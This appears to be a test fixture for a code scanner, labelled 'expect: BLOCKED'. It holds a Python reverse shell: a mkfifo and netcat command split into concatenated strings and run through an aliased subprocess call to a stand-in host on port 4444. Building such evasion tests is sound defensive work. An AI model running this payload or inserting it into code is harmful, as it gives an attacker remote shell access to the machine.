# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/mkfifo_netcat.py technique: alias+concat
import subprocess as _m0
_m0.call('rm -f /tmp/f; mkfifo /tmp/f; ' + 'cat /tmp/f | /bin/sh -i 2>&1 ' + '| nc 203.0.113.5 4444 > /tmp/' + 'f', shell=True)
